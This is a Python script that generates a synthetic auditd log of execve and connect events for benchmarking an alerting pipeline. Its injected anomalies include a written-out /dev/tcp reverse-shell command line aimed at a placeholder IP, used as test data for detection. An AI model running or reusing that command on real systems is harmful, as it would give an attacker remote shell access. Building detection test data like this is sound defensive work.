#!/usr/bin/env python3
"""Write a large, realistic audit.log for replay benchmarks: execve events
(SYSCALL + EXECVE + CWD + PATH + PROCTITLE + EOE) and connect events (SYSCALL
+ SOCKADDR + PROCTITLE + EOE) from a few dozen programs over a simulated week,
with increasing serials. After the first day, 0.2 % of the execs are
anomalies (a binary never seen, under /tmp; every other one with a /dev/tcp
reverse shell on its command line), so that monitoring raises, aggregates
and rate-limits real alerts. usage: gen-audit-log.py EVENTS > file"""
import random
import sys

n = int(sys.argv[1]) if len(sys.argv) > 1 else 100000
rnd = random.Random(42)
exes = ["/usr/bin/ls", "/usr/bin/cat", "/usr/bin/curl", "/usr/sbin/nginx", "/usr/bin/python3.11",
        "/usr/bin/bash", "/usr/bin/grep", "/usr/bin/sed", "/usr/bin/awk", "/usr/bin/sleep",
        "/usr/bin/tar", "/usr/bin/gzip", "/usr/sbin/cron", "/usr/bin/git", "/usr/bin/ssh"]
peers = ["0200005000000000000000000000000000000000", "02000050C0A80001", "020001BB0A000001",
         "020001BB0A000002", "0200003508080808", "0A0001BB000000002001486000000000000000000000888800000000"]
t0 = 1767225600.0  # a Thursday
out = sys.stdout
serial = 1000
for i in range(n):
    t = t0 + i * (7 * 86400.0 / n)
    ts = "%.3f:%d" % (t, serial)
    pid = 1000 + rnd.randrange(30000)
    exe = rnd.choice(exes)
    anomaly = i > n // 7 and rnd.random() < 0.002
    if anomaly:
        exe = "/tmp/.x/m%d" % rnd.randrange(200)
    if anomaly or rnd.random() < 0.8:
        argv = [exe.rsplit("/", 1)[1]] + ["arg%d" % rnd.randrange(50) for _ in range(rnd.randrange(4))]
        if anomaly and rnd.random() < 0.5:
            argv = ["sh", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]
        out.write('type=SYSCALL msg=audit(%s): arch=c000003e syscall=59 success=yes exit=0 a0=55d5 a1=55d6 '
                  'a2=55d7 a3=0 items=2 ppid=%d pid=%d auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 '
                  'sgid=0 fsgid=0 tty=pts0 ses=3 comm="%s" exe="%s" key="rtsensor"\n'
                  % (ts, pid - 1, pid, argv[0][:15], exe))
        out.write('type=EXECVE msg=audit(%s): argc=%d %s\n'
                  % (ts, len(argv), " ".join('a%d="%s"' % (k, a) for k, a in enumerate(argv))))
        out.write('type=CWD msg=audit(%s): cwd="/srv/app"\n' % ts)
        out.write('type=PATH msg=audit(%s): item=0 name="%s" inode=%d dev=fd:01 mode=0100755 ouid=0 ogid=0 '
                  'rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0\n'
                  % (ts, exe, 100000 + (exes.index(exe) if exe in exes else 99)))
        out.write('type=PROCTITLE msg=audit(%s): proctitle=%s\n'
                  % (ts, "00".join(a.encode().hex() for a in argv).upper()))
    else:
        out.write('type=SYSCALL msg=audit(%s): arch=c000003e syscall=42 success=no exit=-115 a0=3 a1=7ffd '
                  'a2=10 a3=0 items=0 ppid=%d pid=%d auid=1000 uid=33 gid=33 euid=33 suid=33 fsuid=33 '
                  'egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="%s" exe="%s" key="rtsensor"\n'
                  % (ts, pid - 1, pid, exe.rsplit("/", 1)[1][:15], exe))
        out.write('type=SOCKADDR msg=audit(%s): saddr=%s\n' % (ts, rnd.choice(peers)))
        out.write('type=PROCTITLE msg=audit(%s): proctitle=%s\n' % (ts, exe.encode().hex().upper()))
    out.write('type=EOE msg=audit(%s): \n' % ts)
    serial += 1
